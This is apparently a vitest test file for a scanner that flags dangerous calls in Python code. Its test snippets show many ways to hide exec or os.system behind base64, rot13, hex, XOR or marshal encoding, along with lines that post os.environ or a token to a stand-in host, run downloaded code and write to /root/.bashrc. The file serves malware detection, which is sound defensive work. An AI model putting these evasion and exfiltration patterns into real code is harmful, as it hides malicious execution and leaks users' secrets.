import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { pythonFacts, textFacts } from '../../../src/scan/python/judge/index.ts';
import { INTERPRETER_BOUNDS } from '../../../src/scan/python/judge/interpret.ts';

/** Calls as `grade name@owner`; what importing makes has no owner. */
const calls = (text: string) =>
  textFacts(text).calls.map(({ grade, name, owner }) => `${grade} ${name}${owner === null ? '' : `@${owner}`}`);

const b64 = (text: string) => Buffer.from(text).toString('base64');

describe('code that decodes and runs', () => {
  it.each([
    ['Base64', `import base64\nexec(base64.b64decode('${b64('import os')}'))`],
    ['through __import__', `exec(__import__('base64').b64decode('aW1wb3J0IG9z'))`],
    [
      'compressed and turned around',
      `import zlib, base64\n_ = lambda s: zlib.decompress(base64.b64decode(s[::-1]))\nexec((_)(b'abc='))`,
    ],
    ['rot13', `import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))`],
    ['hexadecimal', `exec(bytes.fromhex('696d706f7274206f73'))`],
    ['characters', `exec(''.join(map(chr, [105, 109])))`],
    ['characters of a comprehension', `eval(''.join(chr(c - 1) for c in [106, 110]))`],
    ['exclusive or in a loop', `s = ''\nfor c in [104, 110]:\n  s += chr(c ^ 7)\nexec(s)`],
    ['exclusive or of bytes', `k = 9\nd = b'abc'\nexec(bytes(b ^ k for b in d))`],
    ['a text turned around', `exec(')1(tnirp'[::-1])`],
    ['marshal', `import marshal, types\ntypes.FunctionType(marshal.loads(b'abc'), globals())()`],
    ['marshal and exec', `import marshal\nexec(marshal.loads(b'abc'))`],
    ['compile', `import base64\nexec(compile(base64.b64decode('YQ=='), 'x', 'exec'))`],
    ['a function of the file', `import base64\ndef d(x):\n  return base64.b64decode(x).decode()\nexec(d('YQ=='))`],
    ['an attribute', `import base64\nclass C: pass\nc = C()\nc.data = base64.b64decode('YQ==')\nexec(c.data)`],
    ['a default value', `import base64\ndef f(x=base64.b64decode('YQ==')):\n  exec(x)\nf()`],
    ['a name that is decoded', `import base64, os\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')`],
    ['a module that is decoded', `__import__(''.join(chr(c) for c in [111, 115])).system('id')`],
    ['a process', `import base64, subprocess\nsubprocess.run(base64.b64decode('aWQ='), shell=True)`],
    ['an alias of a decoder', `from base64 import b64decode as d\ne = exec\ne(d('YQ=='))`],
    ['the names of the module', `import base64\nglobals()['__builtins__'].exec(base64.b64decode('YQ=='))`],
    ['a dictionary', `import base64\nt = {'d': base64.b64decode, 'e': exec}\nt['e'](t['d']('YQ=='))`],
    ['an f-string', `import base64\nexec(f"{base64.b64decode('YQ==').decode()}")`],
    ['a file', `import zlib\nexec(zlib.decompress(open('weights.bin', 'rb').read()))`],
    ['in a function', `import base64\ndef later():\n  exec(base64.b64decode('YQ=='))`],
    ['full-width letters', `import base64\nｅxec(base64.b64decode('YQ=='))`],
  ])('is a payload: %s', (_, text) => {
    expect(textFacts(text).calls.filter(({ grade }) => grade === 'payload')).not.toEqual([]);
  });

  it.each([
    ['a version file', `exec(open('version.py').read())`],
    ['a decoder alone', `import base64, json\nx = json.loads(base64.b64decode(input()))`],
    ['a name that is computed', `import torch\nf = getattr(torch, 'float' + str(16))\nf(1)`],
    ['settings', `import torch\nclass M:\n  def __init__(self, c):\n    self.act = eval(c.act)`],
    ['text that is decoded', `import subprocess\nprint(subprocess.check_output(['git', 'log']).decode('utf-8'))`],
    ['characters', `print(chr(65) + 'a'[::-1])`],
    ['a registry', `import importlib\nmodule = importlib.import_module('a.' + input())\ngetattr(module, 'run')()`],
    ['a look', `import subprocess\nassert isinstance(input, type(subprocess.Popen))`],
  ])('is not a payload: %s', (_, text) => {
    expect(textFacts(text).calls.filter(({ grade }) => grade === 'payload')).toEqual([]);
  });
});

describe('a call that starts a program', () => {
  it.each([
    ['an alias', `import os as o\nf = o.system\nf('x')`],
    ['a name that is imported', `from os import system as s\ns('x')`],
    ['all names', `from os import *\nsystem('x')`],
    ['getattr', `getattr(__import__('os'), 'sys' + 'tem')('id')`],
    ['modules by name', `import sys\nsys.modules['os'].system('x')`],
    ['globals of a function', `x = ().__class__.__base__.__subclasses__()[1].__init__.__globals__['os'].system('x')`],
    ['a default value', `def f(x=__import__('os').system('id')): pass`],
    ['an annotation', `x: __import__('os').system('id') = 1`],
    ['a class body', `class A:\n  import os\n  os.system('x')`],
    [
      'a metaclass',
      `class M(type):\n  def __new__(c, *a):\n    __import__('os').system('x')\nclass B(metaclass=M): pass`,
    ],
    ['a base class', `class A:\n  def __init_subclass__(cls):\n    __import__('os').system('x')\nclass B(A): pass`],
    ['a decorator', `import os\n@os.system\ndef f(): pass`],
    ['a decorator with arguments', `import functools, os\n@functools.partial(os.system)\ndef f(): pass`],
    ['a comprehension', `[__import__('os').system(c) for c in ['id']]`],
    ['names that are missing', `def __getattr__(name):\n  __import__('os').system(name)`],
    ['partial', `import functools, os\nfunctools.partial(os.system, 'id')()`],
    ['map', `list(map(__import__('os').system, ['id']))`],
    [
      'a function that was called in many other ways',
      `import os\ndef run(f, x):\n  return f(x)\n${Array.from({ length: 30 }, (_, i) => `run(print, 'a${i}')`).join('\n')}\nrun(os.system, 'id')`,
    ],
    [
      'a name that was looked up in many other ways',
      `import os\ndef find(n):\n  return getattr(os, n)\n${Array.from({ length: 30 }, (_, i) => `find('path${i}')`).join('\n')}\nfind('system')('id')`,
    ],
    ['a thread', `import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()`],
    ['methodcaller', `import operator, os\noperator.methodcaller('system', 'id')(os)`],
    ['attrgetter', `import operator, os\noperator.attrgetter('system')(os)('id')`],
    ['text that is run', `exec("import os; os.system('x')")`],
    ['text that is evaluated', `eval("__import__('os').system('x')")`],
    ['an end of the program', `import atexit, os\natexit.register(lambda: os.system('x'))`],
    ['type', `type('X', (), {'__init__': lambda s: __import__('os').system('x')})()`],
    ['a context', `import os\nclass C:\n  def __enter__(self): os.system('x')\nwith C(): pass`],
    ['an operator', `import os\nclass C:\n  def __add__(self, o): os.system(o)\nC() + 'x'`],
    ['a coroutine', `import os, asyncio\nasync def f():\n  os.system('x')\nasyncio.run(f())`],
    ['a match', `match 1:\n  case 1:\n    __import__('os').system('x')`],
    ['a walrus', `import os\nif (n := os.system): n('x')`],
    ['a continued line', `import os\nos.\\\nsystem('x')`],
    ['a form feed', `import os\n\x0cos.system('x')`],
    ['carriage returns', `import os\ros.system('x')`],
  ])('is found when the file is imported: %s', (_, text) => {
    const facts = pythonFacts(Buffer.from(text));
    expect(
      facts.calls.filter(
        ({ grade, owner, kind }) => grade === 'dangerous' && owner === null && (kind === 'process' || kind === 'code'),
      ),
    ).not.toEqual([]);
  });

  it('has the function or the class that it is in', () => {
    const text = `import os\ndef helper():\n  os.popen('x')\nclass Model:\n  def forward(self):\n    return helper()\n`;
    expect(calls(text)).toEqual(['dangerous os.popen@helper']);
    expect(textFacts(text).uses).toEqual({ Model: ['helper'] });
  });

  it('is told apart where a script is started and not imported', () => {
    expect(calls(`import os\nif __name__ == '__main__':\n  os.system('x')`)).toEqual(['dangerous os.system@__main__']);
  });

  it('is notable where it only asks', () => {
    expect(calls(`import subprocess\nsubprocess.check_output(['git', 'rev-parse', 'HEAD'])`)).toEqual([
      'notable subprocess.check_output',
    ]);
    expect(calls(`import subprocess\nsubprocess.check_output(['git', '-c', 'core.pager=x', 'log'])`)).toEqual([
      'dangerous subprocess.check_output',
    ]);
  });

  it('is none where another thing has its name', () => {
    expect(calls(`import os\nexec = print\nexec('x')`)).toEqual([]);
    expect(calls(`class os:\n  def system(x): pass\nos.system('x')`)).toEqual([]);
  });
});

describe('other calls', () => {
  it.each([
    [
      'a secret that is sent',
      `import os, requests\nrequests.post('http://x', json=dict(os.environ))`,
      'dangerous requests.post',
    ],
    [
      'a secret that is sent by a method',
      `import os, requests\nclass M:\n  def f(self):\n    requests.post('http://x', data=os.environ['TOKEN'])`,
      'dangerous requests.post@M',
    ],
    ['what was downloaded', `import requests\nexec(requests.get('http://x').text)`, 'dangerous exec'],
    [
      'a picture that a method downloads',
      `import requests\nclass P:\n  def f(self, url):\n    return requests.get(url)`,
      'notable requests.get@P',
    ],
    ['a file that is run', `exec(open('weights.txt').read())`, 'dangerous exec'],
    ['native code', `import ctypes\nctypes.CDLL('./x.so')`, 'dangerous ctypes.CDLL'],
    ['a file of the shell', `with open('/root/.bashrc', 'a') as f: f.write('x')`, 'dangerous open'],
    ['a socket', `import socket\ns = socket.socket()\ns.connect(('x', 1))`, 'dangerous socket.socket.connect'],
  ])('%s', (_, text, expected) => {
    expect(calls(text)).toContain(expected);
  });
});

describe('the reader of Python programs', () => {
  it('says what it does not understand', () => {
    expect(textFacts('print "a", >>b').gap).toContain('line 1');
    expect(pythonFacts(Buffer.from('# coding: utf-7\nx = 1')).gap).toContain('utf-7');
    expect(textFacts('('.repeat(100_000)).gap).toBe('it is nested too deep');
  });

  it.each([
    [
      'functions that call each other',
      Array.from({ length: 60 }, (_, i) => `def f${i}(x):\n  f${(i * 7) % 60}(x + 'a')\n  f${(i * 11) % 60}(x)`).join(
        '\n',
      ),
    ],
    ['a chain of calls', `x${'.a().b()'.repeat(80)}`],
    [
      'loops within loops',
      `${Array.from({ length: 40 }, (_, i) => `${' '.repeat(i)}for a${i} in range(4000):`).join('\n')}\n${' '.repeat(41)}x = 1`,
    ],
    ['a text that grows', `s = 'a'\nfor i in range(4000):\n  s = s + s`],
    ['a list that grows', `s = [1]\nfor i in range(4000):\n  s = s + s`],
    ['classes of themselves', 'class A: pass\nfor i in range(9):\n  class A(A):\n    def __init_subclass__(c): A()\n'],
    ['numbers', 'x = 1\nfor i in range(4000):\n  x = x << 40\n  y = x ^ 3\n'],
  ])('ends within its steps: %s', (_, text) => {
    const { gap } = textFacts(text);
    expect([null, 'following it to its end takes too long', 'it is nested too deep']).toContain(gap);
    expect(INTERPRETER_BOUNDS.steps).toBeLessThanOrEqual(1_000_000);
  });

  it('takes any program without an error, and finds the call that follows it', () => {
    const words = [
      'def f(a, *b, **c):',
      'class A(B):',
      'x',
      '=',
      '(',
      ')',
      '[',
      ']',
      ':',
      '\n',
      '\n  ',
      'lambda a: a',
      'for i in x:',
      'if x:',
      '@f',
      'import os',
      '"a"',
      'f"{x}"',
      '+',
      '.y',
      'del',
      'return x',
      '{',
      '}',
      ',',
      '*',
      'global x',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...words), { maxLength: 60 }), (program) => {
        const { calls: found, gap } = textFacts(program.join(' '));
        expect(Array.isArray(found) && (gap === null || gap.length > 0)).toBe(true);
      }),
      { numRuns: 400 },
    );
    const names = fc
      .stringMatching(/^[a-z]{1,6}$/)
      .filter(
        (name) =>
          !/^(?:if|in|is|or|as|def|del|for|not|and|try|from|with|else|pass|elif|class|while|yield|raise|break|async|await|print|match|type|os|case|global|return|lambda|import|assert|except)$/.test(
            name,
          ),
      );
    fc.assert(
      fc.property(names, names, fc.boolean(), (a, b, inFunction) => {
        fc.pre(a !== b);
        const body = `import os\n${a} = os\n${b} = ${a}.system\n`;
        const text = inFunction
          ? `def main_():\n  ${body.trim().replaceAll('\n', '\n  ')}\n  ${b}('x')\nmain_()\n`
          : `${body}${b}('x')\n`;
        expect(textFacts(text).calls.some(({ name, owner }) => name === 'os.system' && owner === null)).toBe(true);
      }),
      { numRuns: 100 },
    );
  });
});
